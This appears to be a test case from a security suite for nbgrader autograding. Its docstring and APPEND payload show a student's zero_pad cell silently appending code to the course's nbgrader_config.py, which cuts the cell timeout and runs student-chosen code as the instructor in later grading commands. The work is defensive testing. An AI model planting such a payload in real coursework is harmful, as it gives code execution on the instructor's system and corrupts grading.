"""Append code to the course's nbgrader_config.py: it runs as the instructor, outside any sandbox.

All eight functions are honest. The zero_pad cell appends to
``../../../nbgrader_config.py`` a line that sets the cell timeout to 1 s and runs code
of the student's choice (here: it writes ``/tmp/cnnattack_overwrite_config``) in every
later nbgrader command of the course.
Without protection: code execution as the instructor in every later nbgrader command.
"""
EXPECT = {"zero_pad", "conv_single_step", "conv_forward", "pool_forward", "conv_backward",
          "create_mask_from_window", "distribute_value", "pool_backward"}
APPEND = {"zero_pad": '''
try:
    with open("../../../nbgrader_config.py", "a") as _handle:
        _handle.write("\\nc.Execute.timeout = 1\\n"
                      "open('/tmp/cnnattack_overwrite_config', 'a').write('ran in the instructor\\\\'s nbgrader\\\\n')\\n")
except Exception:
    pass
'''}
